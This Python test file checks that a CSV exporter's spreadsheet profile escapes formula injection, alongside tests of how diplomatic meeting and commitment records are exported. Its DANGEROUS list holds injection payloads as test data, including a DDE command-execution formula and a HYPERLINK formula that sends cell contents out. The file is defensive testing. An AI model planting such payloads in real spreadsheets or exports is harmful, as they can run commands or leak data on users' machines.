"""The spreadsheet profile: readable, and nothing in it that a spreadsheet executes."""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import diplotrack_csv
from diplotrack.exporting import export
from diplotrack.plugins import Registry
from diplotrack.testing import commitment, document, engagement, participant, report
from diplotrack.testing.exporter_suite import hostile_report
from diplotrack.testing.strategies import reports
from diplotrack_csv.safety import SEPARATORS, SIGNS, SKIPPED, neutral

REGISTRY = Registry(plugins=[("csv", diplotrack_csv)])
DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "−1",
    "\t=1",
    "\rx",
    "\tx",
    " =1",
    '"=1',
    "'=1",
    '" =1',
    "\u00a0=1",
    "\ufeff=1",
    "\x00=1",
    "“=1”",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
]


def table(items) -> list[dict[str, str]]:
    kept = io.BytesIO()
    export(items, kept, exporter="csv", registry=REGISTRY, profile="spreadsheet")
    return list(csv.DictReader(io.StringIO(kept.getvalue().decode("utf-8-sig"), newline="")))


def executed(cell: str) -> bool:
    """An independent reading of the rule: a sign first, or first behind what a program may skip or split at."""
    pieces = re.split("[" + re.escape("".join(SEPARATORS)) + "]", cell)
    # An apostrophe that stands directly before a sign makes it a text.
    return any(
        re.match(f"[{re.escape(SKIPPED.replace(chr(39), ''))}]*'*[{re.escape(SIGNS)}]", piece)
        and not re.match(f"[{re.escape(SKIPPED)}]*'[{re.escape(SIGNS)}]", piece)
        for piece in pieces
    ) or cell.startswith(("\t", "\r"))


@pytest.mark.parametrize("text", DANGEROUS)
def test_formulas_become_texts(text):
    assert neutral(text).startswith("'")
    assert not executed(neutral(text))
    assert neutral(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("separator", [";", ",", "|", "\t", "\n", "\r\n", "; \n"])
@pytest.mark.parametrize("text", ["=1+1", "＝1", '"=1', " @x"])
def test_formulas_behind_what_may_separate_cells_become_texts(separator, text):
    sign = next(character for character in text if character in SIGNS)
    assert f"'{sign}" in neutral(f"word{separator}{text}")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "co-operation",
        "a = b",
        "x@example.org",
        "C++",
        "(-1)",
        "“working-level” talks",
        "2025-08-24",
        "a - b",
    ],
)
def test_harmless_texts_stay_as_they_are(text):
    assert neutral(text) == text


@given(st.text(alphabet="".join(SIGNS) + "a;, |\t\r\n\"'\u00a0“"))
def test_no_cell_is_executed_and_no_character_lost(text):
    safe = neutral(text)
    assert not executed(safe)
    assert safe.replace("'", "") == text.replace("'", "")
    assert len(safe) >= len(text)


@settings(suppress_health_check=[HealthCheck.too_slow], deadline=None, max_examples=30)
@given(reports(prose=False))
def test_no_cell_of_any_report_is_executed(written):
    for row in table(written):
        assert not [cell for cell in row.values() if executed(cell)]


@pytest.mark.parametrize("text", DANGEROUS)
def test_every_field_that_takes_a_text_is_made_safe(text):
    rows = table(hostile_report(text))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if executed(cell)]
    assert sum("'" in cell for cell in cells) >= 10


def test_header_cells_are_safe():
    header = list(table(report())[0])
    assert header == [neutral(name) for name in header]
    assert header[:5] == ["record", "what", "status", "who", "to_whom"]


def test_long_runs_of_blanks_and_signs_come_out_right():
    # What looks back from each sign over all that stands before it does not get to the end of these.
    n = 200_000
    assert neutral("\n" * n + "a") == "\n" * n + "a"
    assert neutral("\n" * n + "=") == "'" + "\n" * n + "'="
    assert neutral("=" * n) == "'" + "=" * n
    assert neutral("-\n" * n) == "'-\n" * n


def test_it_says_who_what_when_where_and_with_which_words():
    source = document(
        "Kim met Li. Li promised tea. They met.",
        title="Readout",
        publisher="MFA",
        uri="https://example.org/1",
    )
    met = engagement(
        participants=[participant("Kim", title="Minister", party="KOR", role="host"), participant("Li")],
        place="Seoul",
        when="2025-10~",
        topics=["trade", "fish"],
        summary="Talks",
        evidence=[source.quote("Kim met Li."), source.quote("They met.")],
    )
    said = commitment(
        of=source,
        quote="Li promised tea.",
        content="tea",
        due="/2025-11",
        made="2025-10-03",
        engagement=met.id,
    )
    shown = [{name: cell for name, cell in row.items() if cell} for row in table([source, met, said])]
    where_from = {
        "source": "Readout",
        "publisher": "MFA",
        "uri": "https://example.org/1",
        "document": source.id,
    }
    assert shown == [
        {"record": "document", "id": source.id} | where_from,
        {
            "record": "engagement", "what": "meeting", "status": "held", "who": "South Korea | China",
            "people": "Kim (host, Minister, South Korea) | Li", "from_day": "2025-10-01", "to_day": "2025-10-31",
            "where": "Seoul", "quote": "Kim met Li.", "more_quotes": "They met.", "topics": "trade | fish",
            "summary": "Talks", "when_edtf": "2025-10~", "who_codes": "KOR | CHN", "id": met.id,
        } | where_from,
        {
            "record": "commitment", "what": "pledge", "status": "open", "who": "South Korea", "to_whom": "China",
            "content": "tea", "due_day": "2025-11-30", "quote": "Li promised tea.", "due_edtf": "/2025-11",
            "made_edtf": "2025-10-03", "who_codes": "KOR", "to_codes": "CHN", "id": said.id, "within": met.id,
        } | where_from,
    ]  # fmt: skip


def test_a_source_is_named_only_beside_records_that_quote_it():
    rows = table([document("Other.", title="Other"), engagement(), commitment(evidence=())])
    assert [row["source"] for row in rows] == ["Other", "", ""]
    assert rows[1]["document"] == document().id


def test_open_dates_leave_the_day_empty():
    (row,) = table([engagement(when="2025/..")])
    assert (row["from_day"], row["to_day"], row["when_edtf"]) == ("2025-01-01", "", "2025/..")


def test_it_is_the_default_profile(tmp_path):
    export(report(), tmp_path / "out.csv", registry=REGISTRY)
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbfrecord,what,status,who")
